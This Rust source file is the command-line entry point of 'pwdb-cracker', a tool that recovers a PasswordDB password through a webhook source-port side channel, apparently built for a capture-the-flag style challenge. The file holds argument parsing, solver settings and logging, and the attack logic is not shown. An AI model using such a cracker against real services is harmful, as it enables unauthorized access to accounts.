//! Entry point for `pwdb-cracker`.
//!
//! Parses CLI arguments, sets up logging and runs one cracking session. The
//! recovered password is the only thing written to stdout.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

use clap::Parser;
use pwdb_cracker_rs::{Cracker, CrackerResult, SolveOutcome, SolverConfig};

/// Recover a PasswordDB password through the webhook source-port side channel.
#[derive(Parser)]
#[command(author, version, about)]
struct Cli {
    /// Local address the callback listener binds to.
    #[arg(short, long, default_value = "0.0.0.0:50012")]
    listen: SocketAddr,

    /// `host:port` the verifier calls back; repeat to list several.
    #[arg(short, long = "webhook", default_value = "127.0.0.1:50012")]
    webhooks: Vec<String>,

    /// PasswordDB endpoint receiving guesses.
    #[arg(short, long, default_value = "http://127.0.0.1:3000/")]
    endpoint: String,

    /// JSON file with solver settings; flags below override it.
    #[arg(short, long)]
    config: Option<PathBuf>,

    /// Timeout for each guess submission, in seconds.
    #[arg(long, default_value_t = 10)]
    request_timeout: u64,

    #[arg(long)]
    min_sockets: Option<i64>,

    #[arg(long)]
    confirmations: Option<usize>,

    #[arg(long)]
    extra_confirmations: Option<usize>,

    #[arg(long)]
    anomaly_ceiling: Option<u32>,

    /// Commit a chunk only when every extra confirmation agrees as well.
    #[arg(long)]
    require_confidence: bool,

    /// Give up on a callback after this many milliseconds and count it as noise.
    #[arg(long)]
    event_timeout_ms: Option<u64>,

    /// Log progress.
    #[arg(short, long)]
    verbose: bool,

    /// Log every sample and guess.
    #[arg(short, long)]
    debug: bool,
}

impl Cli {
    fn solver_config(&self) -> CrackerResult<SolverConfig> {
        let mut config = match &self.config {
            Some(path) => SolverConfig::from_json_file(path)?,
            None => SolverConfig::default(),
        };

        if let Some(min_sockets) = self.min_sockets {
            config.min_sockets = min_sockets;
        }
        if let Some(confirmations) = self.confirmations {
            config.confirmations = confirmations;
        }
        if let Some(extra) = self.extra_confirmations {
            config.extra_confirmations = extra;
        }
        if let Some(ceiling) = self.anomaly_ceiling {
            config.anomaly_ceiling = ceiling;
        }
        if self.require_confidence {
            config.require_confidence = true;
        }
        if self.event_timeout_ms.is_some() {
            config.event_timeout_ms = self.event_timeout_ms;
        }
        Ok(config)
    }

    fn log_level(&self) -> log::LevelFilter {
        if self.debug {
            log::LevelFilter::Debug
        } else if self.verbose {
            log::LevelFilter::Info
        } else {
            log::LevelFilter::Warn
        }
    }
}

async fn run(cli: &Cli) -> CrackerResult<SolveOutcome> {
    let cracker = Cracker::builder()
        .with_listen_addr(cli.listen)
        .with_webhook_targets(cli.webhooks.iter().cloned())
        .with_endpoint(&cli.endpoint)?
        .with_request_timeout(Duration::from_secs(cli.request_timeout))
        .with_solver_config(cli.solver_config()?)
        .build()?;

    let outcome = cracker.run().await?;
    let metrics = cracker.metrics().snapshot();
    log::info!(
        "{} guesses, {} anomalies, {} discarded samples in {}s",
        metrics.guesses,
        metrics.anomalies,
        metrics.discarded,
        metrics.elapsed().num_seconds()
    );
    Ok(outcome)
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = Cli::parse();

    // RUST_LOG still wins over the flags.
    env_logger::Builder::new()
        .filter_level(cli.log_level())
        .parse_default_env()
        .init();

    match run(&cli).await {
        Ok(SolveOutcome::Solved { password, .. }) => {
            println!("{password}");
            ExitCode::SUCCESS
        }
        Ok(SolveOutcome::Aborted {
            reason,
            verified_chunks,
            ..
        }) => {
            eprintln!(
                "aborted: {reason} (verified so far: {:?})",
                verified_chunks.concat()
            );
            ExitCode::FAILURE
        }
        Err(err) => {
            eprintln!("error: {err}");
            ExitCode::FAILURE
        }
    }
}
